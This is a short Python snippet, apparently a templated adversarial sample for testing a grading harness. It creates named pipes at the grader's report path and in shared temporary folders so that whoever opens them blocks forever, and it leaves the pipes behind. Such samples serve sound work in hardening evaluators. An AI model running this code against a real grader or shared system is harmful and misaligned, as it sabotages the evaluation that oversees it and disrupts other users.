# Plants named pipes where the grader will write its report (__TARGET__, which this
# attacker is assumed to know) and in the shared temporary folders, so that whoever
# opens one blocks for ever; the pipes would be left behind.
import os as _os

for _path in ("__TARGET__", "/tmp/__MARKER__.fifo", "/dev/shm/__MARKER__.fifo",
              "__MARKER__.fifo"):
    try:
        _os.mkfifo(_path)
    except OSError:
        pass
